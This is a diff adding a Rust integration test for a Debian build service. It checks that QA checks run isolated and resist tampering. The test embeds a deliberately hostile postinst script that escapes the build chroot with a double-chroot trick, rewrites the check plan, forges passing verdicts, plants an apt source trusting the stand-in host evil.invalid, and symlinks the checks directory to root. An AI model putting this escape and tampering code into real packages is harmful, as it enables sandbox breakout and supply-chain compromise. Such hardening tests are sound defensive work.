@@ -156,6 +156,135 @@ fn builds_are_transient_systemd_units() {
     assert!(units.contains("_SYSTEMD_UNIT=buildbay-build-sdhello_"), "{units}");
     assert!(c.ok("machinectl list-images --no-legend").contains("buildbay-bookworm-amd64"));
 
+    // QA checks after an sbuild build: in a unit of their own (the build's unit forbids the
+    // namespaces their machines need), planned afresh from the verified request. Hostile: a
+    // build dependency's postinst (root in the build's schroot session) escapes the chroot
+    // and rewrites the checks' plan to run a command of its own, forges a passing verdict and
+    // `built`, replaces the check machines' script and the request's apt sources, and plants
+    // a symlink where the checks' files go; none of it counts.
+    let evil = r#"#!/bin/sh
+set -e
+if [ "$1" = configure ]; then
+perl -e '
+  mkdir "/esc"; chroot "/esc" or die "chroot: $!"; chdir ".." for 1..64; chroot "." or die "chroot back: $!";
+  for my $plan (glob("/var/lib/buildbay-builds/*/*/*/*/.checks.json")) {
+    (my $d = $plan) =~ s{/[.]checks[.]json$}{};
+    open(my $f, ">", $plan) or next;
+    print $f q([{"check":"Autopkgtest","mode":"errfail","argv":["systemd-run","--unit=pwned-by-build","touch","/run/pwned-by-build"]}]);
+    close $f;
+    open($f, ">", "$d/checks") and print $f "Autopkgtest: pass\n";
+    open($f, ">", "$d/built") and print $f "success exited 0\n";
+    open($f, ">", "$d/.nspawn-check") and print $f "exit 0\n";
+    open($f, ">", "$d/.config/apt_sources.list") and print $f "deb [trusted=yes] http://evil.invalid/ ./\n";
+    symlink("/", "$d/.checks");
+    print "ESCAPED: rewrote $plan\n";
+  }
+' || echo "the escape failed: $?"
+fi
+#DEBHELPER#
+"#;
+    let dep = source_with_files(
+        dir.path(),
+        "sdevildep",
+        "1.0~test12+1",
+        UNSTABLE,
+        "true",
+        &["lintian-mode=disabled"],
+        "all",
+        &[("debian/postinst".to_owned(), evil.to_owned())],
+    );
+    ftp_upload(&ftp_at, &dep);
+    wait_event(&url, "sdevildep", "INSTALLED", WAIT);
+    let with_tests = |name: &str, test: &str, options: &[&str]| {
+        let control = format!(
+            "Source: {name}\nSection: misc\nPriority: optional\nMaintainer: Test User <test@example.org>\nBuild-Depends: debhelper-compat (= 13), sdevildep\nStandards-Version: 4.6.2\nRules-Requires-Root: no\n\nPackage: {name}\nArchitecture: all\nDepends: ${{misc:Depends}}\nDescription: buildbay test package\n Prints hello.\n"
+        );
+        let files = vec![
+            ("debian/control".to_owned(), control),
+            (
+                "debian/tests/control".to_owned(),
+                "Tests: smoke\nDepends: @\n\nTests: contained\nDepends: @\nRestrictions: isolation-container\n"
+                    .to_owned(),
+            ),
+            ("debian/tests/smoke".to_owned(), format!("#!/bin/sh\n{test}\n")),
+            ("debian/tests/contained".to_owned(), "#!/bin/sh\necho contained-test-ran\n".to_owned()),
+        ];
+        source_with_files(dir.path(), name, "1.0~test12+1", UNSTABLE, "true", options, "all", &files)
+    };
+    let t = Instant::now();
+    ftp_upload(
+        &ftp_at,
+        &with_tests("sdqa", "sdqa | grep -q 'hello from sdqa'", &["autopkgtest-mode=errfail", "lintian-mode=ignore"]),
+    );
+    // While the checks run: their unit, with the machines' sandbox (namespaces allowed).
+    let start = Instant::now();
+    let check_unit = loop {
+        let listed = c.ok("systemctl list-units --all --no-legend --plain 'buildbay-check-sdqa_*' || true");
+        if let Some(u) = listed.split_whitespace().next().filter(|u| u.starts_with("buildbay-check-")) {
+            break u.to_owned();
+        }
+        assert!(
+            of(&events(&url), "sdqa", "BUILT").is_empty() && start.elapsed() < WAIT,
+            "no checks unit while sdqa's checks ran: {}",
+            c.ok("journalctl -u buildbay --no-pager | tail -30")
+        );
+        std::thread::sleep(Duration::from_millis(300));
+    };
+    for (prop, want) in [("ProtectSystem", "strict"), ("NoNewPrivileges", "yes"), ("RestrictNamespaces", "no")] {
+        let got = c.ok(&format!("systemctl show -P {prop} '{check_unit}'"));
+        assert_eq!(got.trim(), want, "{check_unit}: {prop}");
+    }
+    let installed = wait_event(&url, "sdqa", "INSTALLED", WAIT);
+    println!(
+        "sbuild, then autopkgtest errfail in a checks unit: upload to INSTALLED {:.1} s",
+        t.elapsed().as_secs_f64()
+    );
+    let built = of(&events(&url), "sdqa", "BUILT").pop().expect("BUILT");
+    let buildlog = built["extra"]["buildlog"].as_str().expect("buildlog").to_owned();
+    let log = run(Command::new("curl").args(["-sf", &format!("{url}/mini_buildd/events-dir/{buildlog}")])).stdout;
+    let log = String::from_utf8_lossy(&log).into_owned();
+    for want in [
+        "ESCAPED: rewrote",
+        "in a unit of their own",
+        "Autopkgtest (mode errfail) in a fresh machine",
+        "contained-test-ran",
+        "buildbay: Autopkgtest: pass",
+    ] {
+        assert!(log.contains(want), "{want:?} not in sdqa's log:\n{log}\n{installed}");
+    }
+    assert!(!log.contains("SKIP"), "a test was skipped:\n{log}");
+    let units = c.ok("journalctl BUILDBAY_SOURCE=sdqa -o export --no-pager | grep -a '^_SYSTEMD_UNIT=' | sort -u");
+    assert!(units.contains("=buildbay-build-sdqa_") && units.contains("=buildbay-check-sdqa_"), "{units}");
+    // lintian in ignore mode ran after the result, in a check machine of the checks unit.
+    let lintian = built["extra"]["lintian"].as_str().expect("the BUILT event names lintian's log").to_owned();
+    let start = Instant::now();
+    loop {
+        let text = run(Command::new("curl").args(["-sf", &format!("{url}/mini_buildd/events-dir/{lintian}")])).stdout;
+        if String::from_utf8_lossy(&text).contains("buildbay: Lintian: ") {
+            break;
+        }
+        assert!(
+            start.elapsed() < WAIT,
+            "lintian never reported after sdqa's result: {}",
+            String::from_utf8_lossy(&text)
+        );
+        std::thread::sleep(Duration::from_secs(1));
+    }
+    // A failing test with the forged verdict planted: FAILED, naming autopkgtest.
+    ftp_upload(
+        &ftp_at,
+        &with_tests(
+            "sdqafail",
+            "echo this test fails >&2; exit 1",
+            &["autopkgtest-mode=errfail", "lintian-mode=disabled"],
+        ),
+    );
+    let failed = wait_event(&url, "sdqafail", "FAILED", WAIT);
+    let why = failed["extra"]["error"]["detail"].as_str().unwrap_or_default();
+    assert!(why.contains("Autopkgtest fail (mode errfail)"), "{failed}");
+    let pwned = c.run("test -e /run/pwned-by-build || systemctl status pwned-by-build --no-pager");
+    assert!(!pwned.status.success(), "the planted plan ran: {}", String::from_utf8_lossy(&pwned.stdout));
+
     // Cancel: StopUnit takes every process of the unit's cgroup.
     let long = buildable_source(dir.path(), "sdsleep", "1.0~test12+1", UNSTABLE, "sleep 6081");
     ftp_upload(&ftp_at, &long);
